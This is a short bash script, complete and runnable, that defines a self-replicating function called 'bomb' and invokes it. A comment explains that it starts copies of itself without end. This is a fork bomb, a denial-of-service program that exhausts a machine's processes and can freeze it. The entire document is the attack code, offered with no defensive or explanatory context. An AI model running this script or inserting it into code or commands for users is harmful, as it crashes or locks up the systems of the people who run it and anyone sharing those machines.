#!/usr/bin/env bash
# Starts copies of itself without end.
bomb() { bomb | bomb & }
bomb
